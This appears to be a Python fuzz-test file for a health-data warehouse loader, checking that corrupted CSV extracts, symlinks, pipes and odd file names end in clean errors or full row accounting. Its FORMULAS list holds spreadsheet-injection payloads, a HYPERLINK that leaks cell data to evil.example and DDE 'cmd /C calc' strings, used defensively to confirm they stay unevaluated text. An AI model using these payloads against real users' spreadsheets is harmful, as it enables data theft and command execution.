"""Hostile and broken input: fuzzed extracts and odd landing folders.

Every fuzzed file ends in one of two ways: a clear error naming the file (LoadError or
ExtractError; the command line prints it and exits 1, without a traceback), with nothing
committed; or a full accounting: rows read = accepted + quarantined for the file, each count
matching the rows stored, and every record key still readable in the file found again in
the warehouse (accepted, or quarantined with its text). Never a crash, never a silent loss.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from cc_warehouse import config
from cc_warehouse.ingest import load, raw_zone
from cc_warehouse.ingest.csvfile import ExtractError
from landing import (
    HV_HEADER,
    HV_ROWS,
    MATERNITY_HEADER,
    MATERNITY_ROWS,
    NCMP_HEADER,
    NCMP_ROWS,
    REFERENCE,
    TEST_KEY,
)
from pipeline import ROOT

FEEDS = {
    "maternity": (MATERNITY_HEADER, MATERNITY_ROWS[0]),
    "health_visiting": (HV_HEADER, HV_ROWS[0]),
    "ncmp": (NCMP_HEADER, NCMP_ROWS[0]),
}
EXTRACT = "20240715"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
]


def token(number: int) -> str:
    """A record key made of letters only: no digit run for the quarantine's masking to hide."""
    letters = "".join(chr(ord("a") + (number // 26**place) % 26) for place in (2, 1, 0))
    return f"KEY{letters}Z"


def settings_for(root: Path, key: str | None = TEST_KEY) -> config.Settings:
    return config.Settings(root / "landing", root / "state" / "w.duckdb", root / "reports", key, "duckdb")


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """A warehouse with the reference files already loaded, copied for every example."""
    root = tmp_path_factory.mktemp("fuzz-template")
    for name, text in REFERENCE.items():
        (root / "landing" / "reference").mkdir(parents=True, exist_ok=True)
        (root / "landing" / "reference" / name).write_text(text, encoding="utf-8")
    load.run(settings_for(root), validate_with_ge=False)
    return root


# ---------------------------------------------------------------- corruptions


def _replace_field(line: bytes, field: int, value: bytes) -> bytes:
    parts = line.split(b",")
    parts[field % len(parts)] = value
    return b",".join(parts)


CORRUPTIONS = {
    "truncate": lambda line, draw: line[: draw(st.integers(0, max(len(line) - 1, 0)))],
    "garbage": lambda line, draw: _insert(line, draw, draw(st.binary(min_size=1, max_size=40))),
    "nul": lambda line, draw: _insert(line, draw, b"\x00"),
    "huge_field": lambda line, draw: _replace_field(
        line, draw(st.integers(0, 13)), b"x" * draw(st.sampled_from([5_000, 70_000, 300_000]))
    ),
    "huge_quoted_field": lambda line, draw: _replace_field(
        line, draw(st.integers(1, 13)), b'"' + b"y,\n" * draw(st.sampled_from([100, 20_000])) + b'"'
    ),
    "semicolons": lambda line, draw: line.replace(b",", b";"),
    "tabs": lambda line, draw: line.replace(b",", b"\t"),
    "stray_quote": lambda line, draw: _insert(line, draw, b'"'),
    "doubled_comma": lambda line, draw: line.replace(b",", b",,", 1),
    "lost_comma": lambda line, draw: line.replace(b",", b"", 1),
    "windows_1252": lambda line, draw: _replace_field(line, 5, "Café Row".encode("cp1252")),
    "utf_8": lambda line, draw: _replace_field(line, 5, "Café Row ✓".encode()),
    "formula": lambda line, draw: _replace_field(
        line,
        draw(st.integers(1, 13)),
        b'"' + draw(st.sampled_from(FORMULAS)).replace('"', '""').encode() + b'"',
    ),
    "carriage_return": lambda line, draw: _insert(line, draw, b"\r"),
    "newline": lambda line, draw: _insert(line, draw, b"\n"),
    "bom": lambda line, draw: b"\xef\xbb\xbf" + line,
    "blank": lambda line, draw: line + b"\n\n   \n",
    # issue 24: impossible dates, placeholder NHS numbers, an empty column at the end
    "impossible_date": lambda line, draw: _replace_field(
        line, draw(st.integers(1, 13)), draw(st.sampled_from([b"01/05/24", b"15/03/95", b"1899-12-31"]))
    ),
    "placeholder_nhs": lambda line, draw: _replace_field(
        line, draw(st.integers(1, 3)), draw(st.sampled_from([b"0000000000", b"9999999999", b"4444444444"]))
    ),
    "trailing_comma": lambda line, draw: line + b",",
}


def _insert(line: bytes, draw, text: bytes) -> bytes:
    position = draw(st.integers(0, len(line)))
    return line[:position] + text + line[position:]


@st.composite
def extracts(draw) -> tuple[str, bytes, list[str]]:
    """(feed, file bytes, record keys written) for a contract file with random damage."""
    feed = draw(st.sampled_from(sorted(FEEDS)))
    header, template_row = FEEDS[feed]
    count = draw(st.integers(1, 8))
    keys = [token(number) for number in range(count)]
    lines = [header.encode()] + [(key + template_row[template_row.index(",") :]).encode() for key in keys]
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.sampled_from(sorted(CORRUPTIONS)))
        target = draw(st.integers(0, len(lines) - 1))
        lines[target] = CORRUPTIONS[kind](lines[target], draw)
    if draw(st.booleans()):  # a duplicated header, at the top or in the middle
        lines.insert(draw(st.integers(0, len(lines))), lines[0])
    if draw(st.booleans()):  # a record sent twice in the file (issue 24)
        lines.insert(draw(st.integers(1, len(lines))), lines[draw(st.integers(1, len(lines) - 1))])
    ending = draw(st.sampled_from([b"\n", b"\r\n"]))
    data = ending.join(lines) + (ending if draw(st.booleans()) else b"")
    if draw(st.integers(0, 9)) == 0:  # saved as UTF-16 (issue 24)
        data = data.decode("utf-8", "replace").encode("utf-16")
    return feed, data, keys


# ---------------------------------------------------------------- the property


def load_one(template: Path, feed: str, data: bytes) -> tuple[Path, Exception | None]:
    root = Path(tempfile.mkdtemp(dir=template.parent))
    shutil.copytree(template / "landing", root / "landing")
    (root / "state").mkdir()
    shutil.copy(template / "state" / "w.duckdb", root / "state" / "w.duckdb")
    (root / "landing" / feed).mkdir()
    (root / "landing" / feed / f"{feed}_{EXTRACT}.csv").write_bytes(data)
    try:
        load.run(settings_for(root), validate_with_ge=False)
    except (load.LoadError, ExtractError) as error:
        return root, error
    return root, None


def check_outcome(root: Path, feed: str, data: bytes, keys: list[str], error: Exception | None) -> None:
    name = f"{feed}/{feed}_{EXTRACT}.csv"
    con = duckdb.connect(str(root / "state" / "w.duckdb"), read_only=True)
    try:
        if error is not None:
            assert name in str(error), f"the message does not name the file: {error}"
            assert con.execute(f"select count(*) from raw.{feed}").fetchone() == (0,)
            assert con.execute(
                "select count(*) from raw.load_log where file_name = ?", [name]
            ).fetchone() == (0,)
            return
        ((read, accepted, quarantined),) = con.execute(
            "select rows_read, rows_accepted, rows_quarantined from raw.load_log where file_name = ?", [name]
        ).fetchall()
        stored = con.execute(f"select count(*) from raw.{feed} where file_name = ?", [name]).fetchone()[0]
        held = con.execute("select count(*) from raw.quarantine where file_name = ?", [name]).fetchone()[0]
        assert read == accepted + quarantined
        assert (accepted, quarantined) == (stored, held)
        # Every key still readable in the file is in the warehouse: accepted or quarantined.
        columns = [
            c for (c,) in con.execute(
                "select column_name from information_schema.columns where table_schema = 'raw' "
                "and table_name = ? and data_type = 'VARCHAR'", [feed],
            ).fetchall()
        ]  # fmt: skip
        texts = con.execute(
            f"""select concat_ws('|', {", ".join(columns)}) from raw.{feed} where file_name = ?
            union all select raw_record from raw.quarantine where file_name = ?
            union all select raw_value from raw.field_issues where file_name = ?""",
            [name, name, name],
        ).fetchall()
        found = "\n".join(text for (text,) in texts if text)
        truncated = any(
            len(text or "") >= limit
            for (text, limit) in con.execute(
                """select raw_record, ? from raw.quarantine where file_name = ?
                union all select raw_value, 200 from raw.field_issues where file_name = ?""",
                [raw_zone.RAW_RECORD_LIMIT, name, name],
            ).fetchall()
        )
        lost = [key for key in keys if key.encode() in data and key not in found]
        assert not lost or truncated, f"keys in the file but nowhere in the warehouse: {lost}"
    finally:
        con.close()


@settings(
    max_examples=50,
    deadline=None,
    derandomize=not os.environ.get("CC_FUZZ_RANDOM"),  # CC_FUZZ_RANDOM=1 explores new cases
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.function_scoped_fixture,
    ],
)
@given(extracts())
@example(("maternity", MATERNITY_HEADER.replace(",", ";").encode() + b"\n" + MATERNITY_ROWS[0].encode(), []))
@example(("ncmp", NCMP_HEADER.encode() + b"\n" + b"\x00\xff\xfe garbage \x81\x8d\n", []))
@example(("maternity", b"\xef\xbb\xbf" + (MATERNITY_HEADER + "\n").encode() * 2, []))
def test_fuzzed_extracts_end_in_a_clear_error_or_a_full_accounting(template, case):
    feed, data, keys = case
    root, error = load_one(template, feed, data)
    try:
        check_outcome(root, feed, data, keys, error)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_formula_text_is_kept_as_text_and_counted(template):
    rows = [f'{token(0)},"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",,,,,,2024-04-10,39,3400,Y,0,N,Y']
    rows.append(f"{FORMULAS[4]},D2,,,,,,2024-04-10,39,3400,Y,0,N,Y")
    data = (MATERNITY_HEADER + "\n" + "\n".join(rows) + "\n").encode()
    root, error = load_one(template, "maternity", data)
    assert error is None
    con = duckdb.connect(str(root / "state" / "w.duckdb"), read_only=True)
    stored = dict(con.execute("select birth_id, delivery_id from raw.maternity").fetchall())
    con.close()
    assert stored == {token(0): FORMULAS[0], FORMULAS[4]: "D2"}  # text, never evaluated


# ---------------------------------------------------------------- the command line


def cli(root: Path, **extra: str) -> subprocess.CompletedProcess:
    env = {
        **os.environ,
        "CC_LANDING_DIR": str(root / "landing"),
        "CC_WAREHOUSE": str(root / "state" / "w.duckdb"),
        "CC_REPORTS_DIR": str(root / "reports"),
        "CC_PSEUDO_KEY": TEST_KEY,
        "CC_DBT_PROJECT_DIR": str(ROOT),
        **extra,
    }
    return subprocess.run(
        [sys.executable, "-m", "cc_warehouse", "load", "--no-validate"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_the_command_line_reports_a_broken_file_without_a_traceback(template, tmp_path):
    shutil.copytree(template / "landing", tmp_path / "landing")
    (tmp_path / "landing" / "ncmp").mkdir()
    (tmp_path / "landing" / "ncmp" / "ncmp_20240715.csv").write_bytes(b"ncmp_id\n\x81\x8d\x90\n")
    (tmp_path / "landing" / "maternity").mkdir()
    (tmp_path / "landing" / "maternity" / "maternity_20240715.csv").write_bytes(
        MATERNITY_HEADER.replace(",", ";").encode() + b"\n"
    )
    result = cli(tmp_path)
    assert result.returncode == 1
    assert result.stderr.startswith("load failed, nothing was committed: maternity/maternity_20240715.csv")
    assert "Traceback" not in result.stderr


# ---------------------------------------------------------------- odd landing folders


@pytest.fixture
def landing(template, tmp_path) -> Path:
    shutil.copytree(template / "landing", tmp_path / "landing")
    for feed, (header, row) in FEEDS.items():
        (tmp_path / "landing" / feed).mkdir()
        (tmp_path / "landing" / feed / f"{feed}_{EXTRACT}.csv").write_text(f"{header}\n{row}\n")
    return tmp_path / "landing"


def run(tmp_path: Path) -> dict[str, int]:
    return load.run(settings_for(tmp_path), validate_with_ge=False)


def test_a_feed_folder_that_is_a_link_outside_is_refused(landing, tmp_path):
    outside = tmp_path / "elsewhere"
    shutil.move(landing / "maternity", outside)
    (landing / "maternity").symlink_to(outside, target_is_directory=True)
    with pytest.raises(load.LoadError, match="maternity: points outside the landing folder"):
        run(tmp_path)
    assert not (tmp_path / "state" / "w.duckdb").exists()


def test_links_that_stay_inside_the_landing_folder(landing, tmp_path, capsys):
    # A feed folder kept in a hidden folder of the landing area and linked: it is inside.
    shutil.move(landing / "ncmp", landing / ".store")
    (landing / "ncmp").symlink_to(Path(".store"), target_is_directory=True)
    # A linked folder inside a feed folder is not read.
    (landing / "maternity" / "old").symlink_to(Path("../health_visiting"), target_is_directory=True)
    assert run(tmp_path)["files_loaded"] == 6
    assert "maternity/old/: a folder inside a feed folder, ignored" in capsys.readouterr().out


def test_a_link_that_loops_is_refused(landing, tmp_path):
    (landing / "maternity" / "maternity_20240816.csv").symlink_to("maternity_20240816.csv")
    with pytest.raises(load.LoadError, match="maternity_20240816.csv: points outside"):
        run(tmp_path)


def test_pipes_are_never_opened(landing, tmp_path):
    # Reading a pipe would block for ever: the loader never opens one.
    os.mkfifo(landing / "maternity" / "maternity_20240816.csv")  # in a feed folder: refused
    result = cli(tmp_path)
    assert result.returncode == 1
    assert "maternity/maternity_20240816.csv: not a regular file" in result.stderr
    assert "Traceback" not in result.stderr
    (landing / "maternity" / "maternity_20240816.csv").unlink()
    os.mkfifo(landing / "notes")  # in the landing root: ignored
    result = cli(tmp_path)
    assert result.returncode == 0, result.stderr
    assert "warning: notes: not a regular file or folder, ignored" in result.stdout


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("maternity_20240816 (1).csv", "maternity_20240816 (1).csv"),
        ("maternité_20240816.csv", "maternité_20240816.csv"),
        ("maternity_２０２４０８１６.csv", "maternity_２０２４０８１６.csv"),
        (os.fsdecode(b"maternity_\xff\xfe.csv"), "maternity_\\xff\\xfe.csv"),
    ],
)
def test_odd_file_names_are_refused_and_named(landing, tmp_path, name, shown):
    (landing / "maternity" / name).write_text("x")
    result = cli(tmp_path)
    assert result.returncode == 1, result.stdout
    assert f"maternity/{shown}: bad file name" in result.stderr
    assert "Traceback" not in result.stderr


def test_an_undecodable_name_in_the_landing_root_is_only_a_warning(landing, tmp_path):
    (landing / os.fsdecode(b"readme \xff.txt")).write_text("x")
    result = cli(tmp_path)
    assert result.returncode == 0, result.stderr
    assert "warning: readme \\xff.txt: not in a feed folder, ignored" in result.stdout
